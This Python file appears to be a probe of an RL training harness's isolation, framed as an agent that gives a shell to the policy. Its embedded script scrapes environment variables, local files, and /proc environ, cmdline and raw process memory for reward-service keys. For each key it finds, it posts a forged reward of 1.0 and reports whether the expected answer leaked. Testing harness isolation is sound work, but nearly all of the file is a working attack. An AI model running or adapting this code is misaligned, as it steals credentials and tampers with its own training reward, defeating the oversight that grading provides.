"""An agent that grades itself honestly with 0 and, before that, gives a shell to the policy, which wants 1."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import urllib.error
import urllib.request
from pathlib import Path
from typing import Any

SHELL = r"""
import json, os, re, sys, urllib.error, urllib.request
from pathlib import Path

def look(path):
    try:
        return Path(path).read_bytes()
    except OSError:
        return b""

def look_into(process):
    found = b"".join(look(f"/proc/{process}/{name}") for name in ("environ", "cmdline"))
    try:
        ranges = re.findall(r"^(\w+)-(\w+) rw", Path(f"/proc/{process}/maps").read_text(), re.M)
        with open(f"/proc/{process}/mem", "rb", 0) as memory:
            for start, end in ranges:
                memory.seek(int(start, 16))
                try:
                    found += memory.read(int(end, 16) - int(start, 16))
                except OSError:
                    pass
    except OSError:
        pass
    return found

PROCESSES = [path.name for path in Path("/proc").glob("[0-9]*") if path.name != str(os.getpid())] if sys.argv[1:] else []
if not sys.argv[1:] and os.getuid():
    PROCESSES = [str(os.getppid())]
seen = json.dumps(dict(os.environ)).encode()
seen += b"".join(look(path) for path in Path(".").rglob("*") if path.is_file())
seen += b"".join(look_into(process) for process in PROCESSES)
keys = {key.decode() for key in re.findall(rb"fb[rs]-[0-9a-f]{48}", seen)}
host = os.environ["OPENAI_BASE_URL"].removesuffix("/v1")
statuses = []
for key in sorted(keys):
    body, headers = b'{"reward": 1.0}', {"Content-Type": "application/json"}
    try:
        urllib.request.urlopen(urllib.request.Request(f"{host}/s/{key}/v1/reward", body, headers))
        statuses.append(200)
    except urllib.error.HTTPError as error:
        statuses.append(error.code)
print(json.dumps({"statuses": statuses, "answer": b"the-expected-answer" in seen}))
"""


def play(task: dict[str, Any]) -> float:
    """The reward is 0, whatever the policy's program does."""
    assert task["config"]["answer"]
    # Without a sandbox it is the worker's user, who may read all of the worker: only the agent itself is looked into then.
    shown = ["processes"] if task["config"]["sandboxed"] else []
    done = subprocess.run([sys.executable, "-c", SHELL, *shown], capture_output=True, text=True, check=False)
    tell(done.stdout or done.stderr)
    return 0.0


def tell(text: str) -> None:
    body = json.dumps({"messages": [{"role": "user", "content": text}]}).encode()
    headers = {"Authorization": f"Bearer {os.environ['OPENAI_API_KEY']}", "Content-Type": "application/json"}
    request = urllib.request.Request(os.environ["OPENAI_BASE_URL"] + "/chat/completions", body, headers)
    urllib.request.urlopen(request, timeout=60).close()


if __name__ == "__main__":
    play(json.loads(Path(os.environ["FLEETBUS_TASK_FILE"]).read_text()))
